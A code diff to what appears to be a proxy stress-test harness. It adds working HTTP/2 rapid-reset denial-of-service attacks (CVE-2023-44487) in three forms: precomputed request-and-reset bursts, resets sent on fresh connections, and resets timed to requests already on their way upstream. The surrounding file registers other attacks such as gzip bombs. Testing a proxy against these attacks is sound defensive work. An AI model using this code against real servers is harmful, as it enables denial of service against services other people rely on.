@@ -3,6 +3,7 @@ proxy answers; what counts is what the attack does to others."""
 
 import asyncio
 import contextlib
+import functools
 import zlib
 from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
 from dataclasses import dataclass
@@ -149,19 +150,65 @@ _FIELDS: Final = [
 ]
 
 
+@functools.cache
+def _resets(count: int) -> list[tuple[bytes, bytes]]:
+    """Requests with their resets, made beforehand: an attacker is not to be slower than we are.
+    Behind `_http2().data_to_send()`."""
+    h2 = _http2()
+    h2.data_to_send()
+    made = []
+    for stream in range(1, 2 * count, 2):
+        h2.send_headers(stream, _FIELDS)
+        request = h2.data_to_send()
+        h2.reset_stream(stream, 8)
+        made.append((request, h2.data_to_send()))
+    return made
+
+
+_AT_ONCE: Final = 50
+
+
 async def rapid_resets(force: Force) -> None:
     """HTTP/2 streams that are opened and reset at once (CVE-2023-44487)."""
+    pairs = _resets(5000)
+    bursts = [
+        b"".join(request + reset for request, reset in pairs[at : at + _AT_ONCE])
+        for at in range(0, len(pairs), _AT_ONCE)
+    ]
 
     async def one(port: int) -> None:
         async with _attacker(port) as writer:
-            h2 = _http2()
-            stream = 1
-            while True:
-                for _ in range(50):
-                    h2.send_headers(stream, _FIELDS)
-                    h2.reset_stream(stream, 8)
-                    stream += 2
-                await _send(writer, h2.data_to_send())
+            await _send(writer, _http2().data_to_send())
+            for burst in bursts:
+                await _send(writer, burst)
+
+    await _each(force, one)
+
+
+async def resets_on_new_connections(force: Force) -> None:
+    """The same; who does it never waits to be thrown out."""
+    pairs = _resets(_AT_ONCE)
+    block = _http2().data_to_send() + b"".join(request + reset for request, reset in pairs)
+
+    async def one(port: int) -> None:
+        async with _attacker(port) as writer:
+            await _send(writer, block)
+
+    await _each(force, one)
+
+
+async def late_resets(force: Force) -> None:
+    """Streams that are reset when their requests are on their way to the upstream."""
+    pairs = _resets(5000)
+
+    async def one(port: int) -> None:
+        async with _attacker(port) as writer:
+            await _send(writer, _http2().data_to_send())
+            for at in range(0, len(pairs), _AT_ONCE):
+                some = pairs[at : at + _AT_ONCE]
+                await _send(writer, b"".join(request for request, _ in some))
+                await asyncio.sleep(0.02)
+                await _send(writer, b"".join(reset for _, reset in some))
 
     await _each(force, one)
 
@@ -225,6 +272,8 @@ ATTACKS: Final[dict[str, Attack]] = {
     "pages that nobody reads": unread_pages,
     "gzip bombs": bomb,
     "HTTP/2: rapid resets": rapid_resets,
+    "HTTP/2: rapid resets, each time on a new connection": resets_on_new_connections,
+    "HTTP/2: late resets": late_resets,
     "HTTP/2: pings that nobody reads": unread_pings,
     "HTTP/2: continuations": continuations,
 }
